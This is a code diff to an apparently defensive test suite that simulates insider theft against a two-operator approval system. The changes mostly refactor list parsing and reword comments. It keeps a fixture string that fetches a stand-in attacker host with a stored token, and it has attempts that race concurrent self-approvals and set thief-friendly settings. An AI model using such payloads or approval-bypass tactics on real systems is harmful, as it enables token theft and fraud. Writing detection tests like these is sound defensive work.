@@ -4,31 +4,28 @@ import type { Attempt, Role } from '../attempt.ts';
 import { byTwo, type OperatorUser } from '../operator-user.ts';
 import { ADDRESSES, operatorId, type Scene } from '../scene.ts';
 import type { Reply } from '../wire.ts';
+import { listOf } from '../../support/json.ts';
 
-/** What a page script would do. */
 const SCRIPT = 'fetch("//evil.example?" + localStorage.token)';
 const SOCK = { username: 'sock@evil.example', email: 'sock@evil.example', role: 'owner' } as const;
 const PASSWORD = 'Out of the deep, at dusk';
 const FORTUNE = '50000000';
 const AT_ONCE = 8;
 
-/** Proposes something and tries every way to approve it alone, many times at once too. */
+/** Proposes something and tries to approve it alone in every way, also many times at once. */
 async function alone(operator: OperatorUser, method: string, path: string, body: object): Promise<Reply[]> {
   const asked = await operator.ask(method, path, body);
   const again = await byTwo([operator, operator], method, path, body);
-  const { list } =
-    ((await operator.ask('GET', '/proposals?status=1&limit=100')).body as {
-      readonly list?: readonly { readonly id: number }[];
-    } | null) ?? {};
+  const { body: open } = await operator.ask('GET', '/proposals?status=1&limit=100');
   const approvals = await Promise.all(
-    (list ?? [])
+    listOf(open?.['list'])
       .slice(0, AT_ONCE)
-      .map(({ id }) => operator.ask('POST', `/proposals/${id}/approve`, { remark: 'mine' })),
+      .map(({ id }) => operator.ask('POST', `/proposals/${String(id)}/approve`, { remark: 'mine' })),
   );
   return [asked, again, ...approvals];
 }
 
-/** Values that would serve a thief, for what two settle together. */
+/** Values useful to a thief, of settings that need two operators. */
 const SETTINGS: Readonly<Record<(typeof TWO_OPERATOR_SETTINGS)[number], unknown>> = {
   four_eyes_threshold: '999999999',
   spot_fee: '0.05',
@@ -49,10 +46,7 @@ const SETTINGS: Readonly<Record<(typeof TWO_OPERATOR_SETTINGS)[number], unknown>
 };
 
 const first = async ({ anna }: Scene, resource: string): Promise<string> =>
-  String(
-    ((await anna.obtain('GET', `/${resource}?limit=1`)) as { readonly list: readonly { readonly id: number }[] })
-      .list[0]?.id,
-  );
+  String(listOf((await anna.obtain('GET', `/${resource}?limit=1`))['list'])[0]?.['id']);
 
 const attempts: readonly Attempt[] = [
   {
@@ -185,9 +179,9 @@ const attempts: readonly Attempt[] = [
       const replies = await Promise.all(gets.map(({ path }) => anna.ask('GET', path)));
       const single = await Promise.all(
         gets.flatMap(({ path }, at) => {
-          const { list } = (replies[at]?.body ?? {}) as { readonly list?: readonly { readonly id?: number }[] };
+          const list = listOf(replies[at]?.body?.['list']);
           const reads = operatorCalls.some((call) => call.method === 'GET' && call.path === `${path}/{id}`);
-          return reads ? (list ?? []).slice(0, 5).map(({ id }) => anna.ask('GET', `${path}/${id}`)) : [];
+          return reads ? list.slice(0, 5).map(({ id }) => anna.ask('GET', `${path}/${String(id)}`)) : [];
         }),
       );
       return [...replies, ...single];
@@ -195,10 +189,9 @@ const attempts: readonly Attempt[] = [
   },
 ];
 
-/** One owner, with everything that is hers. */
 export const owner: Role = { name: 'one owner', attempts };
 
-/** The same by both owners: that it is seen shows that it would be seen of one. */
+/** The same by both owners: since these thefts are detected, those of one owner would be. */
 export const bothOwners: Role = {
   name: 'both owners in one hand',
   attempts: [
@@ -225,7 +218,7 @@ export const bothOwners: Role = {
       ],
     },
     {
-      name: 'have a secret told',
+      name: 'see a secret',
       async run({ wire, thief }) {
         wire.keep('a planted word', 'TRC20');
         return [await thief.ask('getrecharge')];
